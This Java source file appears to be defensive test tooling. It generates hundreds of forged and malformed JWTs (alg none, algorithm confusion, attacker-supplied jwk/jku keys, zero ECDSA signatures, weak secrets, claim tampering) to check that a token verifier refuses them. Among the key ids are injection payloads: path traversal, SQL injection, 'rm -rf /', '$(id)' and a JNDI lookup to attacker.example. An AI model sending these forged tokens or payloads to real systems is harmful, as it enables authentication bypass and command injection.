package accounts.token;

import accounts.json.Json;
import com.auth0.jwt.algorithms.Algorithm;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.security.interfaces.ECPublicKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * Known attacks on tokens, and forms that a strict reader refuses, made for a ring of two keys.
 * Most need no key. Those that do are signed by the real one, to see that the reader refuses the
 * form and not only the signature.
 *
 * @see <a href="https://www.rfc-editor.org/rfc/rfc8725">RFC 8725</a>
 */
public final class TokenAttacks {
  /** The number of points on P-256 (SEC 2 section 2.4.2), and its prime. */
  private static final BigInteger ORDER =
      new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);

  private static final BigInteger PRIME =
      new BigInteger("ffffffff00000001000000000000000000000000ffffffffffffffffffffffff", 16);

  private static final Base64.Encoder BASE64URL = Base64.getUrlEncoder().withoutPadding();

  private final SigningKey hs256;
  private final SigningKey es256;
  private final String claims;
  private final SigningKey attackers = SigningKey.create(TokenAlgorithm.ES256, new SecureRandom());
  private final Map<String, String> tokens = new LinkedHashMap<>();

  private TokenAttacks(SigningKey hs256, SigningKey es256, String claims) {
    this.hs256 = hs256;
    this.es256 = es256;
    this.claims = claims;
  }

  /**
   * The tokens, by what is wrong with each.
   *
   * @param ring with a key of either algorithm that is accepted
   * @param claims of a token that is accepted if one of the two signs it, see {@link #accepted}
   */
  public static Map<String, String> against(KeyRing ring, String claims) {
    TokenAttacks attacks =
        new TokenAttacks(key(ring, TokenAlgorithm.HS256), key(ring, TokenAlgorithm.ES256), claims);
    attacks.algorithms();
    attacks.keysInTheHeader();
    attacks.keyIds();
    attacks.confusedAlgorithms();
    attacks.weakSecrets();
    attacks.curveSignatures();
    for (SigningKey key : List.of(attacks.hs256, attacks.es256)) {
      attacks.signatures(key);
      attacks.base64(key);
      attacks.parts(key);
      attacks.json(key);
      attacks.claims(key);
      attacks.times(key);
      attacks.headers(key);
    }
    return attacks.tokens;
  }

  /** The same claims, rightly signed by each of the two keys. */
  public static List<String> accepted(KeyRing ring, String claims) {
    List<String> accepted = new ArrayList<>();
    for (TokenAlgorithm algorithm : TokenAlgorithm.values()) {
      SigningKey key = key(ring, algorithm);
      accepted.add(sign(header(key), claims, key.jwt()));
    }
    return accepted;
  }

  private static SigningKey key(KeyRing ring, TokenAlgorithm algorithm) {
    return ring.ids().stream()
        .flatMap(id -> ring.accepted(id, Instant.EPOCH).stream())
        .filter(key -> key.algorithm() == algorithm)
        .findFirst()
        .orElseThrow();
  }

  private void add(String name, String token) {
    if (tokens.put(name, token) != null) {
      throw new IllegalStateException("Twice: " + name);
    }
  }

  // --- how tokens are made

  private static String header(SigningKey key) {
    return header(key.algorithm().name(), key.id());
  }

  private static String header(String algorithm, String kid) {
    return "{\"alg\":\"" + algorithm + "\",\"typ\":\"JWT\",\"kid\":\"" + kid + "\"}";
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String encode(String text) {
    return BASE64URL.encodeToString(utf8(text));
  }

  private static String sign(String header, String claims, Algorithm algorithm) {
    return signParts(encode(header), encode(claims), algorithm);
  }

  private static String signParts(String header, String claims, Algorithm algorithm) {
    String content = header + "." + claims;
    return content + "." + BASE64URL.encodeToString(algorithm.sign(utf8(content)));
  }

  private String valid(SigningKey key) {
    return sign(header(key), claims, key.jwt());
  }

  private static String content(String token) {
    return token.substring(0, token.lastIndexOf('.'));
  }

  private static byte[] signature(String token) {
    return Base64.getUrlDecoder().decode(token.substring(token.lastIndexOf('.') + 1));
  }

  private static String withSignature(String token, byte[] signature) {
    return content(token) + "." + BASE64URL.encodeToString(signature);
  }

  // --- the attacks

  private void algorithms() {
    for (String none : List.of("none", "None", "NONE", "nOnE", "nonE", " none", "", "null")) {
      for (SigningKey key : List.of(hs256, es256)) {
        String content = encode(header(none, key.id())) + "." + encode(claims);
        String name = "alg " + none + " with the kid of " + key.algorithm();
        add(name + ", unsigned", content + ".");
        add(name + ", signed", signParts(content.split("\\.", -1)[0], encode(claims), key.jwt()));
      }
      add(
          "alg " + none + " without kid",
          encode("{\"alg\":\"" + none + "\"}") + "." + encode(claims) + ".");
    }
    for (SigningKey key : List.of(hs256, es256)) {
      String kid = ",\"kid\":\"" + key.id() + "\"}";
      for (String algorithm :
          List.of(
              "\"HS384\"",
              "\"HS512\"",
              "\"ES384\"",
              "\"ES512\"",
              "\"ES256K\"",
              "\"RS256\"",
              "\"PS256\"",
              "\"EdDSA\"",
              "\"hs256\"",
              "\"es256\"",
              "\"HS256 \"",
              "\"ES256\\u0000\"",
              "\"HmacSHA256\"",
              "null",
              "true",
              "256",
              "[\"HS256\"]",
              "[\"ES256\"]",
              "{\"alg\":\"HS256\"}")) {
        add(
            "alg " + algorithm + " with the kid of " + key.algorithm(),
            sign("{\"alg\":" + algorithm + kid, claims, key.jwt()));
      }
      add("no alg, kid of " + key.algorithm(), sign("{" + kid.substring(1), claims, key.jwt()));
    }
  }

  private static String jwk(SigningKey key) {
    PublicKey shown = key.publicKey().orElseThrow();
    return "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\""
        + shown.x()
        + "\",\"y\":\""
        + shown.y()
        + "\",\"alg\":\"ES256\",\"use\":\"sig\",\"kid\":\""
        + key.id()
        + "\"}";
  }

  /** CVE-2018-0114 and its kin: the token brings the key that it is to be verified with. */
  private void keysInTheHeader() {
    Map<String, String> members = new LinkedHashMap<>();
    members.put("jwk", jwk(attackers));
    members.put("jwk of a secret", "{\"kty\":\"oct\",\"k\":\"" + attackers.base64Url() + "\"}");
    members.put("jku", "\"https://attacker.example/jwks.json\"");
    members.put("jku to this machine", "\"http://127.0.0.1/.well-known/jwks.json\"");
    members.put("x5u", "\"https://attacker.example/cert.pem\"");
    members.put("x5u to a file", "\"file:///etc/ssl/certs/ca-certificates.crt\"");
    members.put("x5c", "[\"MIIB\"]");
    members.put("x5t", "\"AAAA\"");
    members.put("x5t#S256", "\"AAAA\"");
    members.forEach(
        (name, value) -> {
          String member = ",\"" + name.split(" ", 2)[0] + "\":" + value + "}";
          for (String kid : List.of(es256.id(), attackers.id())) {
            String header = header("ES256", kid);
            add(
                name + " in the header, signed by the attacker, kid " + kid,
                sign(header.replace("}", member), claims, attackers.jwt()));
          }
          add(
              name + " in the header, without kid",
              sign("{\"alg\":\"ES256\"" + member, claims, attackers.jwt()));
          for (SigningKey key : List.of(hs256, es256)) {
            add(
                name + " in the header, signed by " + key.algorithm(),
                sign(header(key).replace("}", member), claims, key.jwt()));
          }
        });
  }

  private void keyIds() {
    List<String> ids =
        List.of(
            "",
            " ",
            "../../../../../../dev/null",
            "/dev/null",
            "/proc/sys/kernel/randomize_va_space",
            "..\\\\..\\\\..\\\\windows\\\\win.ini",
            "file:///dev/null",
            "https://attacker.example/key",
            "%2e%2e%2fdev%2fnull",
            "x' UNION SELECT 'AAAA'-- ",
            "' OR '1'='1",
            "\\\" OR \\\"1\\\"=\\\"1",
            "x; rm -rf /",
            "$(id)",
            "`id`",
            "| id",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "*",
            "(.*)",
            "__proto__",
            "initial",
            "0",
            "null",
            "\\u0000",
            "\\r\\nX-Injected: 1",
            "k".repeat(900));
    for (SigningKey key : List.of(hs256, es256)) {
      List<String> tricks = new ArrayList<>(ids);
      tricks.addAll(
          List.of(
              key.id() + "\\u0000",
              key.id() + "\\u0000.pem",
              "\\u0000" + key.id(),
              key.id() + " ",
              " " + key.id(),
              key.id() + "=",
              key.id() + ",x",
              "./" + key.id(),
              key.id() + "'--",
              key.id().substring(0, key.id().length() - 1),
              swapCase(key.id())));
      for (String kid : tricks) {
        add(
            "kid " + kid + " for " + key.algorithm(),
            sign(header(key.algorithm().name(), kid), claims, key.jwt()));
      }
      String start = "{\"alg\":\"" + key.algorithm() + "\",\"kid\":";
      for (String kid :
          List.of(
              "null",
              "0",
              "true",
              "[]",
              "{}",
              "[\"" + key.id() + "\"]",
              "{\"kid\":\"" + key.id() + "\"}")) {
        add(
            "kid of another type, " + kid + " for " + key.algorithm(),
            sign(start + kid + "}", claims, key.jwt()));
      }
    }
    // What stands at the path, as a secret: nothing, or a known number.
    for (String known : List.of("\0", "0\n", "1\n", "2\n", "AAAA")) {
      add(
          "kid of a file with a known text " + BASE64URL.encodeToString(utf8(known)),
          sign(header("HS256", "../../../dev/null"), claims, Algorithm.HMAC256(utf8(known))));
    }
    add("kid of the other key, HS256", sign(header("HS256", es256.id()), claims, hs256.jwt()));
    add("kid of the other key, ES256", sign(header("ES256", hs256.id()), claims, es256.jwt()));
    add("ES256 without kid", sign("{\"alg\":\"ES256\",\"typ\":\"JWT\"}", claims, es256.jwt()));
  }

  private static String swapCase(String text) {
    String upper = text.toUpperCase(Locale.ROOT);
    return upper.equals(text) ? text.toLowerCase(Locale.ROOT) : upper;
  }

  /** CVE-2015-9235 and its kin: what everybody knows, used as a secret. */
  private void confusedAlgorithms() {
    ECPublicKey publicKey = ((Es256) es256.jwt()).publicKey();
    byte[] x = Es256.bytes(publicKey.getW().getAffineX());
    byte[] y = Es256.bytes(publicKey.getW().getAffineY());
    byte[] der = publicKey.getEncoded();
    String base64 = Base64.getMimeEncoder(64, utf8("\n")).encodeToString(der);
    String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----";
    Map<String, byte[]> known = new LinkedHashMap<>();
    known.put("PEM", utf8(pem));
    known.put("PEM with a line's end", utf8(pem + "\n"));
    known.put("PEM with CR LF", utf8(pem.replace("\n", "\r\n") + "\r\n"));
    known.put("PEM in one line", utf8(pem.replace("\n", "")));
    known.put("base64 of the DER", utf8(base64.replace("\n", "")));
    known.put("DER", der);
    known.put("JWK", utf8(jwk(es256)));
    known.put("JWKS", utf8("{\"keys\":[" + jwk(es256) + "]}"));
    known.put("raw point", concat(new byte[] {4}, x, y));
    known.put("compressed point", concat(new byte[] {(byte) (2 + (y[31] & 1))}, x));
    known.put("x and y", concat(x, y));
    known.put("x", x);
    known.put("x in base64url", utf8(BASE64URL.encodeToString(x)));
    known.put("kid of ES256", utf8(es256.id()));
    known.put("kid of HS256", utf8(hs256.id()));
    known.forEach(
        (name, secret) -> {
          Algorithm hmac = Algorithm.HMAC256(secret);
          for (SigningKey key : List.of(hs256, es256)) {
            add(
                name + " as a secret, kid of " + key.algorithm(),
                sign(header("HS256", key.id()), claims, hmac));
            add(
                name + " as a secret, alg ES256, kid of " + key.algorithm(),
                sign(header("ES256", key.id()), claims, hmac));
          }
          add(name + " as a secret, without kid", sign("{\"alg\":\"HS256\"}", claims, hmac));
        });
    add(
        "the private key as a secret, kid of ES256",
        sign(header("HS256", es256.id()), claims, Algorithm.HMAC256(es256.secret())));
    add(
        "the private key as a secret, without kid",
        sign("{\"alg\":\"HS256\"}", claims, Algorithm.HMAC256(es256.secret())));
    add(
        "HS256 signed, alg ES256, kid of HS256",
        sign(header("ES256", hs256.id()), claims, hs256.jwt()));
    add(
        "HS256 signed, alg ES256, kid of ES256",
        sign(header("ES256", es256.id()), claims, hs256.jwt()));
    add(
        "ES256 signed, alg HS256, kid of ES256",
        sign(header("HS256", es256.id()), claims, es256.jwt()));
    add(
        "ES256 signed, alg HS256, kid of HS256",
        sign(header("HS256", hs256.id()), claims, es256.jwt()));
    add("ES256 signed, alg HS256, without kid", sign("{\"alg\":\"HS256\"}", claims, es256.jwt()));
    for (SigningKey key : List.of(hs256, es256)) {
      add(
          "another's key for ES256, kid of " + key.algorithm(),
          sign(header("ES256", key.id()), claims, attackers.jwt()));
    }
  }

  private void weakSecrets() {
    // A zero byte is what HMAC makes of no key at all.
    for (String secret :
        List.of(
            "\0", "0", "secret", "password", "changeme", "your-256-bit-secret", "\0".repeat(32))) {
      String name = "secret " + BASE64URL.encodeToString(utf8(secret));
      Algorithm hmac = Algorithm.HMAC256(utf8(secret));
      add(name, sign(header(hs256), claims, hmac));
      add(name + ", without kid", sign("{\"alg\":\"HS256\"}", claims, hmac));
      add(name + ", kid of ES256", sign(header("HS256", es256.id()), claims, hmac));
    }
    byte[] half = Arrays.copyOf(hs256.secret(), hs256.secret().length - 1);
    add("the secret without its last byte", sign(header(hs256), claims, Algorithm.HMAC256(half)));
  }

  /** CVE-2022-21449 and its kin. */
  private void curveSignatures() {
    String token = valid(es256);
    byte[] signature = signature(token);
    BigInteger r = new BigInteger(1, Arrays.copyOf(signature, 32));
    BigInteger s = new BigInteger(1, Arrays.copyOfRange(signature, 32, 64));
    BigInteger zero = BigInteger.ZERO;
    BigInteger one = BigInteger.ONE;
    BigInteger all = one.shiftLeft(256).subtract(one);
    Map<String, BigInteger[]> pairs = new LinkedHashMap<>();
    pairs.put("r = s = 0", new BigInteger[] {zero, zero});
    pairs.put("r = 0", new BigInteger[] {zero, s});
    pairs.put("s = 0", new BigInteger[] {r, zero});
    pairs.put("r = 0, s = 1", new BigInteger[] {zero, one});
    pairs.put("r = 1, s = 0", new BigInteger[] {one, zero});
    pairs.put("r = s = 1", new BigInteger[] {one, one});
    pairs.put("r = n", new BigInteger[] {ORDER, s});
    pairs.put("s = n", new BigInteger[] {r, ORDER});
    pairs.put("r = s = n", new BigInteger[] {ORDER, ORDER});
    pairs.put("r = n, s = 0", new BigInteger[] {ORDER, zero});
    pairs.put("r = s = n - 1", new BigInteger[] {ORDER.subtract(one), ORDER.subtract(one)});
    pairs.put("r = s = n + 1", new BigInteger[] {ORDER.add(one), ORDER.add(one)});
    pairs.put("r = s = p", new BigInteger[] {PRIME, PRIME});
    pairs.put("r = s = 2^256 - 1", new BigInteger[] {all, all});
    pairs.put("r = n, s = 1", new BigInteger[] {ORDER, one});
    pairs.put("r and s exchanged", new BigInteger[] {s, r});
    pairs.put("n - r", new BigInteger[] {ORDER.subtract(r), s});
    // As good a signature to whoever does not look: the token would have two forms.
    pairs.put("n - s, the higher one", new BigInteger[] {r, ORDER.subtract(s)});
    pairs.forEach(
        (name, pair) ->
            add(
                "ES256 " + name,
                withSignature(token, concat(Es256.bytes(pair[0]), Es256.bytes(pair[1])))));
    add("ES256 as DER", withSignature(token, der(r, s)));
    add("ES256 as DER of zeros", withSignature(token, der(zero, zero)));
    add(
        "ES256 with halves of 33 bytes",
        withSignature(
            token,
            concat(
                new byte[1],
                Arrays.copyOf(signature, 32),
                new byte[1],
                Arrays.copyOfRange(signature, 32, 64))));
    add("ES256 with halves of 16 bytes", withSignature(token, new byte[32]));
    add(
        "ES256 in P1363 of P-384",
        withSignature(
            token,
            concat(
                new byte[16],
                Arrays.copyOf(signature, 32),
                new byte[16],
                Arrays.copyOfRange(signature, 32, 64))));
  }

  private static byte[] der(BigInteger r, BigInteger s) {
    byte[] first = r.toByteArray();
    byte[] second = s.toByteArray();
    return concat(
        new byte[] {0x30, (byte) (first.length + second.length + 4), 2, (byte) first.length},
        first,
        new byte[] {2, (byte) second.length},
        second);
  }

  private static byte[] concat(byte[]... arrays) {
    int length = 0;
    for (byte[] array : arrays) {
      length += array.length;
    }
    byte[] all = new byte[length];
    int at = 0;
    for (byte[] array : arrays) {
      System.arraycopy(array, 0, all, at, array.length);
      at += array.length;
    }
    return all;
  }

  private void signatures(SigningKey key) {
    String token = valid(key);
    String name = key.algorithm() + " ";
    byte[] signature = signature(token);
    add(name + "signature left out", content(token) + ".");
    add(name + "signature of zeros", withSignature(token, new byte[signature.length]));
    add(
        name + "signature one byte short",
        withSignature(token, Arrays.copyOf(signature, signature.length - 1)));
    add(
        name + "signature one byte long",
        withSignature(token, Arrays.copyOf(signature, signature.length + 1)));
    add(
        name + "signature with a zero in front",
        withSignature(token, concat(new byte[1], signature)));
    add(name + "signature twice", withSignature(token, concat(signature, signature)));
    add(name + "signature of one byte", withSignature(token, new byte[1]));
    for (int i = 0; i < signature.length; i += 5) {
      byte[] flipped = signature.clone();
      flipped[i] ^= 1;
      add(name + "signature with a bit flipped in byte " + i, withSignature(token, flipped));
    }
    String[] parts = token.split("\\.", -1);
    add(
        name + "claims exchanged under the signature",
        parts[0]
            + "."
            + encode(claims.replace("\"token_type\"", "\"x\":1,\"token_type\""))
            + "."
            + parts[2]);
    add(
        name + "header exchanged under the signature",
        encode(header(key).replace("JWT", "J\\u0057T")) + "." + parts[1] + "." + parts[2]);
  }

  private void base64(SigningKey key) {
    String name = key.algorithm() + " ";
    String[] parts = valid(key).split("\\.", -1);
    Map<String, UnaryOperator<String>> odd = new LinkedHashMap<>();
    odd.put("with =", part -> part + "=");
    odd.put("with ==", part -> part + "==");
    odd.put("with the right padding", part -> part + "=".repeat((4 - part.length() % 4) % 4));
    odd.put("with ====", part -> part + "====");
    odd.put("with a space behind", part -> part + " ");
    odd.put("with a space in front", part -> " " + part);
    odd.put("with a space in it", part -> part.substring(0, 8) + " " + part.substring(8));
    odd.put("with a tab in it", part -> part.substring(0, 8) + "\t" + part.substring(8));
    odd.put("with a line's end", part -> part + "\n");
    odd.put("with lines", part -> part.substring(0, 8) + "\r\n" + part.substring(8));
    odd.put("with a NUL", part -> part + "\0");
    odd.put("with %3D", part -> part + "%3D");
    odd.put("with a character too many", part -> part + "A");
    odd.put("with letters of another width", part -> part + "Ａ");
    odd.put("without its last character", part -> part.substring(0, part.length() - 1));
    odd.put("in the other alphabet", part -> part.replace('-', '+').replace('_', '/'));
    odd.put("with other last bits", TokenAttacks::withOtherLastBits);
    odd.forEach(
        (what, change) -> {
          // The header's and the claims' oddities are signed over, so that only they are wrong.
          for (String header : headersOfAllLengths(key)) {
            addIfOther(
                name + "header " + what + ": " + header.length(),
                encode(header),
                change,
                part -> signParts(part, parts[1], key.jwt()));
          }
          for (String fill : List.of("", " ", "  ")) {
            String filled = claims.replace("}", fill + ",\"x\":\"~~~???>>>\"}");
            addIfOther(
                name + "claims " + what + ": " + filled.length(),
                encode(filled),
                change,
                part -> signParts(parts[0], part, key.jwt()));
          }
          // Signatures with and without a - or _ in them.
          for (int i = 0; i < 3; i++) {
            String token = sign(header(key), claims.replace("}", ",\"x\":" + i + "}"), key.jwt());
            addIfOther(
                name + "signature " + what + ": " + i,
                token.substring(token.lastIndexOf('.') + 1),
                change,
                part -> content(token) + "." + part);
          }
        });
    // Bytes that are the signature's in the alphabet of standard base64.
    for (int i = 0; ; i++) {
      String token = sign(header(key), claims.replace("}", ",\"y\":" + i + "}"), key.jwt());
      String signature = token.substring(token.lastIndexOf('.') + 1);
      if (signature.contains("-") && signature.contains("_")) {
        add(
            name + "signature in standard base64",
            content(token) + "." + signature.replace('-', '+').replace('_', '/'));
        return;
      }
    }
  }

  /** Headers of all three lengths modulo 3, so that some have bits to spare. */
  private static List<String> headersOfAllLengths(SigningKey key) {
    return List.of(header(key), header(key).replace("}", " }"), header(key).replace("}", "  }"));
  }

  private void addIfOther(
      String name, String part, UnaryOperator<String> change, UnaryOperator<String> token) {
    String changed = change.apply(part);
    if (!changed.equals(part)) {
      add(name, token.apply(changed));
    }
  }

  /** The same bytes to a lenient reader; the part itself where it has no bits to spare. */
  private static String withOtherLastBits(String part) {
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    if (part.length() % 4 == 0) {
      return part;
    }
    int last = alphabet.indexOf(part.charAt(part.length() - 1));
    return part.substring(0, part.length() - 1) + alphabet.charAt(last ^ 1);
  }

  private void parts(SigningKey key) {
    String token = valid(key);
    String name = key.algorithm() + " ";
    String[] parts = token.split("\\.", -1);
    add(name + "one part", parts[1]);
    add(name + "two parts", parts[0] + "." + parts[1]);
    add(name + "four parts", token + "." + parts[2]);
    add(name + "five parts, as of a JWE", token + "." + parts[2] + "." + parts[2]);
    add(name + "a dot behind", token + ".");
    add(name + "a dot in front", "." + token);
    add(name + "two dots", token.replaceFirst("\\.", ".."));
    add(name + "no header", "." + parts[1] + "." + parts[2]);
    add(name + "no claims", parts[0] + ".." + parts[2]);
    add(name + "no claims, signed", signParts(parts[0], "", key.jwt()));
    add(name + "no header, signed", signParts("", parts[1], key.jwt()));
    add(name + "Bearer in front", "Bearer " + token);
    add(name + "in quotes", "\"" + token + "\"");
    add(name + "twice", token + token);
    add(name + "twice with a comma", token + "," + token);
    add(name + "a token in the claims", signParts(parts[0], encode(token), key.jwt()));
    add(name + "a token in a token", signParts(parts[0], token, key.jwt()));
    add(
        name + "as a JSON serialization",
        "{\"protected\":\""
            + parts[0]
            + "\",\"payload\":\""
            + parts[1]
            + "\",\"signature\":\""
            + parts[2]
            + "\"}");
    add(name + "a mark of byte order in front", "\uFEFF" + token);
    add(
        name + "JWE by dir",
        encode("{\"alg\":\"dir\",\"enc\":\"A256GCM\",\"kid\":\"" + key.id() + "\"}")
            + ".."
            + parts[1]
            + "."
            + parts[1]
            + "."
            + parts[2]);
    add(
        name + "JWE header on a signed token",
        sign(header(key).replace("}", ",\"enc\":\"A256GCM\"}"), claims, key.jwt()));
    add(
        name + "oversized claims",
        sign(header(key), claims.replace("}", ",\"x\":\"" + "x".repeat(3000) + "\"}"), key.jwt()));
    add(
        name + "oversized header",
        sign(header(key).replace("}", " ".repeat(3000) + "}"), claims, key.jwt()));
    add(name + "oversized signature", content(token) + "." + "A".repeat(4000));
    add(
        name + "oversized by far",
        sign(
            header(key),
            claims.replace("}", ",\"x\":\"" + "x".repeat(300_000) + "\"}"),
            key.jwt()));
    add(name + "only dots", ".".repeat(2000));
  }

  private void json(SigningKey key) {
    String name = key.algorithm() + " ";
    String header = header(key);
    Map<String, UnaryOperator<String>> odd = new LinkedHashMap<>();
    odd.put("with a mark of byte order", json -> "\uFEFF" + json);
    odd.put("with something behind", json -> json + "x");
    odd.put("with an object behind", json -> json + json);
    odd.put("with null behind", json -> json + " null");
    odd.put("with a brace behind", json -> json + "}");
    odd.put("with a NUL behind", json -> json + "\0");
    odd.put("with a comment", json -> "/**/" + json);
    odd.put("with a comment behind", json -> json + "//");
    odd.put("with a comma too many", json -> json.replace("}", ",}"));
    odd.put("in single quotes", json -> json.replace('"', '\''));
    odd.put("without quotes", json -> json.replaceFirst("\"([a-z_]+)\":", "$1:"));
    odd.put("cut off", json -> json.substring(0, json.length() - 1));
    odd.put("in an array", json -> "[" + json + "]");
    odd.put("in a string", json -> "\"" + json.replace("\"", "\\\"") + "\"");
    odd.put("null", json -> "null");
    odd.put("empty", json -> "{}");
    odd.put("NaN", json -> json.replace("}", ",\"x\":NaN}"));
    odd.put("with a control character", json -> json.replace("}", ",\"x\":\"\u0001\"}"));
    odd.put(
        "with a deep array that is not closed",
        json -> json.replace("}", ",\"x\":" + "[".repeat(900)));
    odd.put("nothing but depth", json -> "[".repeat(1000));
    odd.forEach(
        (what, change) -> {
          add(name + "header " + what, sign(change.apply(header), claims, key.jwt()));
          add(name + "claims " + what, sign(header, change.apply(claims), key.jwt()));
        });
    add(
        name + "header with a deep array",
        sign(
            header.replace("}", ",\"x\":" + "[".repeat(300) + "]".repeat(300) + "}"),
            claims,
            key.jwt()));
    add(
        name + "claims deeper than a parser goes",
        sign(header, "{\"x\":" + "[".repeat(1100) + "]".repeat(100), key.jwt()));
    Map<String, byte[]> bytes = new LinkedHashMap<>();
    bytes.put("a byte that is no UTF-8", new byte[] {(byte) 0xff});
    bytes.put("an overlong character", new byte[] {(byte) 0xc0, (byte) 0xaf});
    bytes.put("half of a pair", new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80});
    bytes.put("a character cut off", new byte[] {(byte) 0xe2, (byte) 0x82});
    bytes.forEach(
        (what, odds) -> {
          byte[] start = utf8(claims.replace("}", ",\"x\":\""));
          String part = BASE64URL.encodeToString(concat(start, odds, utf8("\"}")));
          add(name + "claims with " + what, signParts(encode(header), part, key.jwt()));
          String odd1 = BASE64URL.encodeToString(concat(utf8(header), odds));
          add(name + "header with " + what, signParts(odd1, encode(claims), key.jwt()));
        });
    for (var charset : List.of(StandardCharsets.UTF_16BE, StandardCharsets.UTF_16LE)) {
      add(
          name + "header in " + charset,
          signParts(BASE64URL.encodeToString(header.getBytes(charset)), encode(claims), key.jwt()));
      add(
          name + "claims in " + charset,
          signParts(encode(header), BASE64URL.encodeToString(claims.getBytes(charset)), key.jwt()));
    }
  }

  private Set<String> names() {
    Set<String> names = new LinkedHashSet<>();
    Json.readObject(claims).orElseThrow().fieldNames().forEachRemaining(names::add);
    return names;
  }

  private void claims(SigningKey key) {
    String name = key.algorithm() + " ";
    for (String claim : names()) {
      ObjectNode object = Json.readObject(claims).orElseThrow();
      String own = object.path(claim).toString();
      boolean number = object.path(claim).isNumber();
      List<String> values = new ArrayList<>(List.of("null", "true", "[]", "{}", "[" + own + "]"));
      values.addAll(
          number
              ? List.of("\"" + own + "\"", own + ".0", own + "e0", "-1", "-0.5", "1e10", "1E400")
              : List.of("17", "17.5", "\"\"", "{\"value\":" + own + "}"));
      for (String value : values) {
        add(
            name + claim + " = " + value,
            sign(
                header(key),
                claims.replace("\"" + claim + "\":" + own, "\"" + claim + "\":" + value),
                key.jwt()));
      }
      // Two readers could take it for two things.
      String twice = claims.replace("}", ",\"" + claim + "\":" + own + "}");
      add(name + claim + " twice", sign(header(key), twice, key.jwt()));
      String escaped = String.format("\\u%04x", (int) claim.charAt(0)) + claim.substring(1);
      add(
          name + claim + " twice, once escaped",
          sign(header(key), claims.replace("}", ",\"" + escaped + "\":" + own + "}"), key.jwt()));
      if (!claim.equals("sid") || claims.contains("\"refresh\"")) {
        object.remove(claim);
        add(name + "without " + claim, sign(header(key), object.toString(), key.jwt()));
        add(
            name + claim + " in another case",
            sign(
                header(key),
                claims.replace("\"" + claim + "\"", "\"" + claim.toUpperCase(Locale.ROOT) + "\""),
                key.jwt()));
        add(
            name + claim + " with a space",
            sign(
                header(key), claims.replace("\"" + claim + "\"", "\"" + claim + " \""), key.jwt()));
      }
    }
    for (String type : List.of("Access", "ACCESS", "REFRESH", "access ", "refresh ", "id", "")) {
      add(
          name + "token_type " + type,
          sign(
              header(key),
              claims.replaceFirst("\"token_type\":\"[a-z]+\"", "\"token_type\":\"" + type + "\""),
              key.jwt()));
    }
    String other = claims.contains("\"access\"") ? "refresh" : "access";
    add(
        name + "a token for something else",
        sign(
            header(key),
            claims.replaceFirst("\"token_type\":\"[a-z]+\"", "\"token_type\":\"" + other + "\""),
            key.jwt()));
    for (String id : List.of("", " ", "../x", "a b", "x\\u0000", "MEMBER#x", "x".repeat(300))) {
      add(
          name + "user_id " + id,
          sign(
              header(key),
              claims.replaceFirst(
                  "\"user_id\":\"[^\"]+\"", "\"user_id\":\"" + id.replace("\\", "\\\\") + "\""),
              key.jwt()));
    }
  }

  /** Each would be good for ever to a reader that gets it wrong. */
  private void times(SigningKey key) {
    String name = key.algorithm() + " ";
    for (String claim : List.of("exp", "iat")) {
      for (String value :
          List.of(
              "\"9999999999\"",
              "9999999999.5",
              "9.9e9",
              "1e300",
              "1E+400",
              "-9999999999",
              "253402300800",
              "9223372036854775807",
              "9223372036854775808",
              "18446744073709551616",
              "99999999999999999999999999999999",
              "0x7fffffff",
              "+9999999999",
              "09999999999",
              "Infinity",
              "NaN",
              "\"never\"",
              "\"2099-01-01T00:00:00Z\"",
              "[9999999999]",
              "{\"$numberLong\":\"9999999999\"}")) {
        add(
            name + claim + " at " + value,
            sign(
                header(key),
                claims.replaceFirst(
                    "\"" + claim + "\":[0-9]+", "\"" + claim + "\":" + value.replace("$", "\\$")),
                key.jwt()));
      }
    }
  }

  private void headers(SigningKey key) {
    String name = key.algorithm() + " ";
    List<String> members =
        List.of(
            "\"crit\":[\"exp\"]",
            "\"crit\":[\"b64\"],\"b64\":false",
            "\"crit\":[]",
            "\"crit\":null",
            "\"crit\":\"exp\"",
            "\"crit\":[\"alg\"]",
            "\"crit\":[\"x-unknown\"],\"x-unknown\":1",
            "\"b64\":false",
            "\"b64\":true",
            "\"zip\":\"DEF\"",
            "\"cty\":\"JWT\"",
            "\"iss\":\"x\"",
            "\"exp\":9999999999",
            "\"p2c\":2147483647",
            "\"epk\":{}",
            "\"nonce\":\"x\"",
            "\"url\":\"https://attacker.example\"",
            "\"x\":1",
            "\"\":1",
            "\"__proto__\":{\"alg\":\"none\"}",
            "\"alg\":\"none\"",
            "\"alg\":\"" + key.algorithm() + "\"",
            "\"\\u0061lg\":\"none\"",
            "\"kid\":\"" + key.id() + "\"",
            "\"k\\u0069d\":\"x\"",
            "\"typ\":\"JWT\"");
    for (String member : members) {
      add(
          name + "header with " + member,
          sign(header(key).replace("}", "," + member + "}"), claims, key.jwt()));
    }
    for (String type :
        List.of(
            "\"jwt\"",
            "\"JWE\"",
            "\"at+jwt\"",
            "\"JOSE\"",
            "\"\"",
            "null",
            "1",
            "[\"JWT\"]",
            "{}")) {
      add(name + "typ " + type, sign(header(key).replace("\"JWT\"", type), claims, key.jwt()));
    }
    add(
        name + "claims that are not encoded",
        unencoded(header(key).replace("}", ",\"b64\":false,\"crit\":[\"b64\"]}"), key));
  }

  /** RFC 7797. */
  private String unencoded(String header, SigningKey key) {
    byte[] signature = key.jwt().sign(utf8(encode(header) + "." + claims));
    return encode(header) + "." + claims + "." + BASE64URL.encodeToString(signature);
  }
}
